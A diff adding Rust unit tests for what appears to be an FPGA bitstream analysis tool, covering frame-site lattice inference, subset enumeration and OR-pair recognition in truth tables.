+        use bitstream::SubVectorOrder::{SliceL, SliceM};
+        // True sites: frames 0, 12, 24 (modulus 12), even offsets,
+        // alternating orders by column parity.
+        let d = 404usize;
+        let samples: Vec<(usize, bitstream::SubVectorOrder)> = vec![
+            (0 * d + 10, SliceL),
+            (0 * d + 44, SliceL),
+            (12 * d + 8, SliceM),
+            (12 * d + 70, SliceM),
+            (24 * d + 2, SliceL),
+        ];
+        let lat = SiteLattice::infer(&samples, d);
+        assert!(lat.accepts(12 * d + 100));
+        assert!(!lat.accepts(13 * d + 100), "off-lattice frame rejected");
+        assert!(!lat.accepts(12 * d + 101), "odd offset rejected");
+        assert!(lat.accepts_order(0, SliceL));
+        assert!(!lat.accepts_order(0, SliceM));
+        assert!(lat.accepts_order(12 * d, SliceM));
+    }
+
+    #[test]
+    fn lattice_tolerates_outliers() {
+        use bitstream::SubVectorOrder::SliceL;
+        let d = 404usize;
+        // Nine aligned samples and one misaligned (frame 7).
+        let mut samples: Vec<(usize, bitstream::SubVectorOrder)> =
+            (0..9).map(|i| (i * 12 * d + 2 * i, SliceL)).collect();
+        samples.push((7 * d + 6, SliceL));
+        let lat = SiteLattice::infer(&samples, d);
+        assert!(lat.accepts(36 * d), "true sites still accepted");
+        assert!(!lat.accepts(7 * d + 6), "the outlier itself is rejected");
+    }
+
+    #[test]
+    fn lattice_degrades_gracefully() {
+        use bitstream::SubVectorOrder::SliceL;
+        // A single sample gives no stride information: permissive.
+        let lat = SiteLattice::infer(&[(808, SliceL)], 404);
+        assert!(lat.accepts(808));
+        assert!(lat.accepts(1212));
+        // Mixed parity disables everything.
+        let lat = SiteLattice::infer(&[(0, SliceL), (1, SliceL)], 404);
+        assert!(lat.accepts(3));
+        // No samples at all.
+        let lat = SiteLattice::infer(&[], 404);
+        assert!(lat.accepts(12345));
+    }
+
+    #[test]
+    fn subsets_enumeration() {
+        assert_eq!(subsets(4, 0), vec![Vec::<usize>::new()]);
+        assert_eq!(subsets(3, 3), vec![vec![0, 1, 2]]);
+        let two_of_four = subsets(4, 2);
+        assert_eq!(two_of_four.len(), 6);
+        assert_eq!(two_of_four[0], vec![0, 1]);
+        assert_eq!(two_of_four[5], vec![2, 3]);
+        assert!(subsets(2, 3).is_empty());
+    }
+
+    #[test]
+    fn or_pair_recognition() {
+        let t = TruthTable::var(5, 2).or(TruthTable::var(5, 5));
+        assert_eq!(or_pair(t), Some((2, 5)));
+        let not_or = TruthTable::var(5, 2).xor(TruthTable::var(5, 5));
+        assert_eq!(or_pair(not_or), None);
+        let three = t.or(TruthTable::var(5, 1));
+        assert_eq!(or_pair(three), None);
+    }
+}
